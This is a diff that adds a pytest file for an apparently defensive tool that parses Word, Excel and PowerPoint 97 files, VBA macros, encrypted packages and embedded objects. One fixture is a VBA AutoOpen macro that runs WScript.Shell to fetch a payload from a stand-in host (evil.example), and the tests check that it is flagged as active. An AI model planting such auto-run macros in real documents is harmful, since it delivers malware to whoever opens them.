@@ -1,0 +1,146 @@
+"""OLE compound files: Word, Excel and PowerPoint 97, macros, encrypted packages, packed objects."""
+
+from __future__ import annotations
+
+import struct
+import time
+
+import pytest
+
+from glassdome.files.vba import decompress
+from tests.unit.files.made import DATA, read_bytes, sample, words_of, xlsx, zipped
+from tests.unit.files.made_ole import compound
+
+MODULE = """Attribute VB_Name = "ThisDocument"
+Sub AutoOpen()
+  CreateObject("WScript.Shell").Run "https://evil.example/load.exe"
+End Sub
+"""
+
+
+def _packed(text: str) -> bytes:
+    """Write a compressed container (MS-OVBA 2.4.1) of literal bytes."""
+    raw = text.encode("cp1252")
+    chunk = b"".join(b"\0" + raw[at : at + 8] for at in range(0, len(raw), 8))
+    return b"\x01" + struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
+
+
+def _project(text: str = MODULE) -> bytes:
+    return compound({"VBA/dir": b"x", "VBA/ThisDocument": b"p-code" * 9 + _packed(text), "PROJECT": b"x"})
+
+
+def test_words_of_a_word_97_document() -> None:
+    """The pieces of a document by an office program are read, with notes, headers and links."""
+    found = sample("office/letter.doc")
+
+    for words in ("Invoice 1187 café", "header words", "footnoteword", "textboxword", "Paper\t700.00", "東京"):
+        assert words in words_of(found)
+    assert [(link.url, link.shown) for link in found.links] == [
+        ("https://pay.kesselring.example/login", "the customer page")
+    ]
+    assert not found.is_active
+
+
+def test_cells_of_an_excel_97_workbook() -> None:
+    """Cells, dates, links and hidden sheets of a workbook by an office program are read."""
+    found = sample("office/orders.xls")
+
+    assert "Envelopes & paper\t2025-03-04\t1842.5" in words_of(found, "sheet Orders")
+    assert "hiddensheetword" in words_of(found, "sheet Secret", seen=False)
+    assert [link.url for link in found.links] == ["https://portal.kesselring.example/orders"]
+    assert ("number", "15.5", "sheet Orders, cell B3") in {(f.type, f.value, f.where) for f in found.facts}
+
+
+def test_slides_of_a_powerpoint_97_presentation() -> None:
+    """Slides, notes and links of a presentation by an office program are read."""
+    found = sample("office/deck.ppt")
+
+    assert "titleword" in words_of(found, "slide 1")
+    assert "18 March 2025" in words_of(found, "slide 2")
+    assert "notesword" in words_of(found, "notes")
+    assert [link.url for link in found.links] == ["https://deck.kesselring.example/join"]
+
+
+def test_macros_are_told() -> None:
+    """A VBA project makes the file active; the procedures that run by themselves and its links are named."""
+    found = read_bytes(_project())
+
+    assert found.is_active
+    assert {"AutoOpen", "CreateObject", "WScript.Shell"} <= set(words_of(found, "macro", seen=False).split("\n"))
+    assert [link.url for link in found.links] == ["https://evil.example/load.exe"]
+
+
+def test_a_project_without_code_is_not_active() -> None:
+    """A module of attributes alone runs nothing."""
+    assert not read_bytes(_project('Attribute VB_Name = "Sheet1"\nOption Explicit\n')).is_active
+
+
+def test_macros_in_a_package_are_told() -> None:
+    """The macros of a docm are a file inside it."""
+    data = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", "word/vbaProject.bin": _project()})
+
+    assert read_bytes(data).is_active
+
+
+def test_a_container_repeats_earlier_bytes() -> None:
+    """The copy tokens of a compressed container are followed (the example of MS-OVBA 3.2.2)."""
+    packed = bytes.fromhex(
+        "01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C"
+    )
+
+    assert decompress(packed) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
+
+
+@pytest.mark.parametrize("name", ["agile.xlsx", "agile.docx"])
+def test_an_encrypted_package_opens_with_a_password_of_the_mail(name: str) -> None:
+    """Without its password an encrypted file says so; with it, its words are read."""
+    data = (DATA / "office" / name).read_bytes()
+    closed, opened = read_bytes(data, name), read_bytes(data, name, wrong="other", right="Sommer2025!")
+
+    assert closed.read == "encrypted"
+    assert closed.encrypted
+    assert opened.encrypted
+    assert "DE02 1203" in opened.files[0].document.text or "4111 1111" in opened.files[0].document.text
+
+
+def test_a_packed_object_is_a_file_inside() -> None:
+    """A file that the packager embedded has its name and its bytes."""
+    inner = xlsx('<sheetData><row><c t="inlineStr"><is><t>inside</t></is></c></row></sheetData>')
+    body = b"\x02\0" + b"order.xlsx\0" + b"C:\\order.xlsx\0" + bytes(4) + struct.pack("<I", 3) + b"C:\0"
+    body += struct.pack("<I", len(inner)) + inner
+    found = read_bytes(compound({"\x01Ole10Native": struct.pack("<I", len(body)) + body}))
+
+    assert found.members == ("order.xlsx",)
+    assert "inside" in found.files[0].document.text
+
+
+def test_a_workbook_that_claims_all_cells_is_bounded() -> None:
+    """A sheet whose two cells stand in opposite corners is not laid out as a table."""
+    cell = struct.pack("<HHHHHHd", 0x0203, 14, 65535, 255, 0, 0, 1.0)[:12] + struct.pack("<d", 1.0)
+    begin = struct.pack("<HHHHHH", 0x0809, 8, 0x0600, 0x0010, 0, 0)
+    found = read_bytes(compound({"Workbook": begin + cell}))
+
+    assert found.problem == "bounds"
+
+
+def test_loops_in_the_allocation_table_end() -> None:
+    """A file whose sectors lead back to themselves is read at once, or said to be damaged."""
+    data = bytearray((DATA / "office" / "letter.doc").read_bytes())
+    begin = time.perf_counter()
+    places = struct.unpack_from("<109I", data, 76)
+    for place in [place for place in places if place != 0xFFFFFFFF]:
+        at = 512 * (place + 1)
+        for entry in range(128):
+            if struct.unpack_from("<I", data, at + 4 * entry)[0] < 0xFFFFFFF0:
+                struct.pack_into("<I", data, at + 4 * entry, entry % 7)
+
+    assert read_bytes(bytes(data)).kind
+    assert time.perf_counter() - begin < 2
+
+
+@pytest.mark.parametrize("name", ["letter.doc", "orders.xls"])
+def test_truncated_files_never_raise(name: str) -> None:
+    """A file that ends early is read as far as it goes."""
+    data = (DATA / "office" / name).read_bytes()
+
+    assert {read_bytes(data[:size]).read for size in range(8, len(data), 509)} <= {"yes", "damaged", "unsupported"}
